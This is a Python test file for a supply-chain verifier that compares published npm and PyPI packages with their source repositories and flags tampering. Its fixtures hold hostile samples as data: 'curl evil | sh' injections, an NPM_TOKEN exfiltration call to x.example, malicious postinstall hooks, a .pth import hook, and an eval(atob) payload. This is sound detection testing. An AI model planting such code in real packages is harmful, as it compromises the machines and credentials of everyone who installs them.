"""verify: genuine packages come out without high findings; each tampering comes out `mismatch` naming the file."""

from __future__ import annotations

import json
from pathlib import Path

from ossprov import stages
from ossprov.fixtures.jsbuild import compile_ts
from ossprov.fixtures.world import World
from ossprov.model import FileStatus, Severity, Verdict
from tests.conftest import npm_project


def highs(result) -> list:
    return [f for f in result.findings if f.severity is Severity.HIGH]


def plain(world: World, name: str = "plain"):
    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"lib/helper.js": "exports.h = 1;\n"})
    repo.commit("release")
    return repo, pkg, world.npm_pack(pkg)


def test_genuine_plain_package_is_faithful(world: World) -> None:
    _, _, tarball = plain(world)
    result = stages.verify(world.publish_npm(tarball))
    assert result.verdict is Verdict.FAITHFUL, result.findings
    assert result.counts["identical"] == 4 and not highs(result)


def test_line_injected_into_main_module(world: World) -> None:
    _, pkg, tarball = plain(world)
    evil = (pkg / "index.js").read_bytes() + b"require('child_process').exec('curl evil | sh');\n"
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil})))
    assert result.verdict is Verdict.MISMATCH
    assert any(f.path == "index.js" and f.rule == "OSP101" for f in highs(result))
    diff = next(r for r in result.file_results if r.path == "index.js").diff
    assert diff and "+require('child_process')" in diff


def test_new_module_required_from_main(world: World) -> None:
    _, pkg, tarball = plain(world)
    main = b"require('./payload');\n" + (pkg / "index.js").read_bytes()
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
    assert result.verdict is Verdict.MISMATCH
    paths = {f.path for f in highs(result)}
    assert {"index.js", "payload.js"} <= paths
    assert next(r for r in result.file_results if r.path == "payload.js").status is FileStatus.UNEXPLAINED


def test_postinstall_added_to_package_json(world: World) -> None:
    _, pkg, tarball = plain(world)
    manifest = json.loads((pkg / "package.json").read_text())
    manifest["scripts"] = {"postinstall": "node steal.js"}
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
    assert result.verdict is Verdict.MISMATCH
    assert any(f.rule == "OSP111" and "postinstall" in f.message for f in highs(result))


def test_dependency_added_like_event_stream(world: World) -> None:
    _, pkg, tarball = plain(world)
    manifest = json.loads((pkg / "package.json").read_text())
    manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
    assert any(f.rule == "OSP113" and "flatmap-stream" in f.message for f in highs(result))


def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None:
    _, pkg, tarball = plain(world)
    manifest = json.loads((pkg / "package.json").read_text())
    manifest.update({"gitHead": "abc", "_id": "plain@1.0.0", "readmeFilename": "README.md"})
    text = json.dumps(manifest, indent=4).encode()
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": text})))
    assert result.verdict is Verdict.FAITHFUL
    assert next(r for r in result.file_results if r.path == "package.json").status is FileStatus.NORMALIZED


def test_crlf_line_endings_are_normalized(world: World) -> None:
    _, pkg, tarball = plain(world)
    crlf = (pkg / "lib/helper.js").read_bytes().replace(b"\n", b"\r\n")
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"lib/helper.js": crlf})))
    helper = next(r for r in result.file_results if r.path == "lib/helper.js")
    assert helper.status is FileStatus.NORMALIZED and "line endings" in helper.reason


def built(world: World):
    repo, pkg = npm_project(world, "acme/built", "built", "1.0.0",
                            {"src/index.ts": "export const greet = (n: string) => `hi ${n}`;\n",
                             ".gitignore": "dist/\n"},
                            extra={"main": "dist/index.js", "scripts": {"build": "tsc"}, "files": ["dist", "src"]})
    repo.commit("release")
    (pkg / "dist").mkdir()
    js, source_map = compile_ts((pkg / "src/index.ts").read_text(), "../src/index.ts", "index.js")
    (pkg / "dist/index.js").write_text(js)
    (pkg / "dist/index.js.map").write_text(source_map)
    (pkg / "dist/index.d.ts").write_text("export declare const greet: (n: string) => string;\n")
    return pkg, world.npm_pack(pkg)


def test_build_output_is_generated_and_vouched_by_source_map(world: World) -> None:
    _, tarball = built(world)
    result = stages.verify(world.publish_npm(tarball))
    assert result.verdict is Verdict.FAITHFUL_WITH_BUILD_OUTPUT, result.findings
    statuses = {r.path: r.status for r in result.file_results}
    assert statuses["dist/index.js"] is FileStatus.GENERATED
    assert statuses["dist/index.d.ts"] is FileStatus.GENERATED
    assert not highs(result)
    assert any(f.rule == "OSP202" for f in result.findings)


def test_minified_bundle_with_injected_code_despite_source_map(world: World) -> None:
    pkg, tarball = built(world)
    bundle = (pkg / "dist/index.js").read_bytes().replace(
        b'"use strict";', b'"use strict";require("https").get("https://x.example/"+process.env.NPM_TOKEN);')
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js": bundle})))
    assert result.verdict is Verdict.MISMATCH
    assert any(f.rule == "OSP121" and f.path == "dist/index.js" for f in highs(result))


def test_source_map_embedding_different_source(world: World) -> None:
    pkg, tarball = built(world)
    doc = json.loads((pkg / "dist/index.js.map").read_text())
    doc["sourcesContent"] = ["export const greet = () => eval(atob('...'));\n"]
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
    assert any(f.rule == "OSP122" for f in highs(result))


def test_missing_file_from_files_list(world: World) -> None:
    _, tarball = built(world)
    result = stages.verify(world.publish_npm(World.tamper_npm(tarball, {"src/index.ts": None})))
    missing = [r for r in result.file_results if r.status is FileStatus.MISSING]
    assert [r.path for r in missing] == ["src/index.ts"]


def test_unverifiable_without_repository(world: World) -> None:
    repo, pkg = npm_project(world, "acme/orphan", "orphan", "1.0.0", repository=None)
    repo.commit("release")
    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
    assert result.verdict is Verdict.UNVERIFIABLE and "no source repository" in result.reason


def test_pypi_sdist_and_wheel(world: World) -> None:
    repo = world.repo("acme/snake")
    files = {"pyproject.toml": '[project]\nname = "snake"\nversion = "1.0"\n', "src/snake/__init__.py": "X = 1\n"}
    repo.commit("release", files)
    meta = {"Project-URL": ["Source, https://github.com/acme/snake"]}
    purl = world.publish_pypi("snake", "1.0", files, metadata=meta, wheel_files={"snake/__init__.py": "X = 1\n"})
    result = stages.verify(purl)
    assert result.verdict is Verdict.FAITHFUL, result.findings
    assert result.locate.commit == repo.head()


def test_pypi_wheel_with_extra_module_and_pth(world: World, tmp_path: Path) -> None:
    import zipfile

    repo = world.repo("acme/wheely")
    files = {"pyproject.toml": '[project]\nname = "wheely"\nversion = "2.0"\n', "wheely/__init__.py": "Y = 2\n"}
    repo.commit("release", files)
    meta = {"Project-URL": ["Source, https://github.com/acme/wheely"]}
    world.publish_pypi("wheely", "2.0", files, metadata=meta, wheel_files={"wheely/__init__.py": "Y = 2\n"})
    wheel = next((world.root / "registry/pypi/files").glob("wheely-2.0-*.whl"))
    tampered = tmp_path / wheel.name
    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(tampered, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("wheely/_hook.py", "import os; os.system('id')\n")
        dst.writestr("wheely-hook.pth", "import wheely._hook\n")
    result = stages.verify("pkg:pypi/wheely@2.0", artifact=tampered)
    assert result.verdict is Verdict.MISMATCH
    rules = {(f.rule, f.path) for f in highs(result)}
    assert ("OSP131", "wheely-hook.pth") in rules and ("OSP102", "wheely/_hook.py") in rules


def test_sdist_with_changed_setup_py(world: World, tmp_path: Path) -> None:
    repo = world.repo("acme/setupy")
    files = {"setup.py": "from setuptools import setup\nsetup(name='setupy', version='1.0')\n",
             "setupy.py": "Z = 3\n"}
    repo.commit("release", files)
    meta = {"Home-page": ["https://github.com/acme/setupy"]}
    evil = {**files, "setup.py": files["setup.py"] + "import os; os.system('curl evil|sh')\n"}
    purl = world.publish_pypi("setupy", "1.0", evil, metadata=meta)
    result = stages.verify(purl)
    assert result.verdict is Verdict.MISMATCH
    assert any(f.path == "setup.py" for f in highs(result))


def test_setuptools_sdist_rewrites_are_normalized(world: World) -> None:
    """What setuptools does to an sdist: setup.cfg rewritten through configparser, egg-info under src/."""
    repo = world.repo("acme/toolsy")
    setup_cfg = "[metadata]\nname = toolsy\n# the version\nversion = 1.0\n\n[options]\npackages = find:\n    \n"
    files = {"setup.cfg": setup_cfg, "setup.py": "from setuptools import setup\nsetup()\n",
             "src/toolsy/__init__.py": "T = 1\n"}
    repo.commit("release", files)
    rewritten = ("[metadata]\nname = toolsy\nversion = 1.0\n\n[options]\npackages = find:\n\n"
                 "[egg_info]\ntag_build = \ntag_date = 0\n\n")
    published = {**files, "setup.cfg": rewritten, "src/toolsy.egg-info/PKG-INFO": "Metadata-Version: 2.1\n",
                 "src/toolsy.egg-info/SOURCES.txt": "setup.py\n", "src/toolsy.egg-info/top_level.txt": "toolsy\n"}
    purl = world.publish_pypi("toolsy", "1.0", published, metadata={"Home-page": ["https://github.com/acme/toolsy"]})
    result = stages.verify(purl)
    assert result.verdict is Verdict.FAITHFUL, result.findings
    statuses = {r.path: r.status for r in result.file_results}
    assert statuses["setup.cfg"] is FileStatus.NORMALIZED
    assert statuses["src/toolsy.egg-info/SOURCES.txt"] is FileStatus.NORMALIZED


def test_setup_cfg_with_a_changed_setting_is_still_caught(world: World) -> None:
    repo = world.repo("acme/cfgy")
    files = {"setup.cfg": "[metadata]\nname = cfgy\nversion = 1.0\n", "cfgy.py": "C = 1\n"}
    repo.commit("release", files)
    evil = {**files, "setup.cfg": "[metadata]\nname = cfgy\nversion = 1.0\n\n[options]\nsetup_requires = evil\n"}
    result = stages.verify(world.publish_pypi("cfgy", "1.0", evil,
                                                metadata={"Home-page": ["https://github.com/acme/cfgy"]}))
    assert any(f.path == "setup.cfg" and f.severity is Severity.HIGH for f in result.findings)


def test_monorepo_build_from_the_root_with_dual_format_markers(world: World) -> None:
    """Babel-style monorepo: the build config and LICENSE live at the root; tshy-style module-type markers."""
    repo, pkg = npm_project(world, "acme/monobuild", "@acme/core", "7.0.0", subdir="packages/core",
                            files={"src/index.ts": "export const core = 1;\n"}, extra={"main": "lib/cjs/index.js"})
    repo.write({"babel.config.mjs": "export default {};\n", "LICENSE": "MIT\n"})
    repo.commit("release")
    (pkg / "lib/cjs").mkdir(parents=True)
    (pkg / "lib/esm").mkdir(parents=True)
    (pkg / "lib/cjs/index.js").write_text('"use strict";\nexports.core = 1;\n')
    (pkg / "lib/cjs/package.json").write_text('{"type": "commonjs"}\n')
    (pkg / "lib/esm/index.js").write_text("export const core = 1;\n")
    (pkg / "lib/esm/package.json").write_text('{"type": "module"}\n')
    (pkg / "LICENSE").write_text("MIT\n")
    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
    assert not highs(result), result.findings
    statuses = {r.path: r for r in result.file_results}
    assert statuses["lib/esm/package.json"].status is FileStatus.GENERATED
    assert statuses["LICENSE"].status is FileStatus.IDENTICAL and statuses["LICENSE"].source_path == "LICENSE"
    assert result.verdict is Verdict.FAITHFUL_WITH_BUILD_OUTPUT


def test_output_package_json_with_more_than_a_type_is_not_a_marker(world: World) -> None:
    repo, pkg = npm_project(world, "acme/notmarker", "notmarker", "1.0.0", files={"src/a.ts": "export {};\n"},
                            extra={"scripts": {"build": "tsc"}})
    repo.commit("release")
    (pkg / "dist").mkdir()
    (pkg / "dist/package.json").write_text('{"type": "module", "scripts": {"postinstall": "node x"}}\n')
    result = stages.verify(world.publish_npm(world.npm_pack(pkg)))
    assert any(f.path == "dist/package.json" and f.severity is Severity.HIGH for f in result.findings)
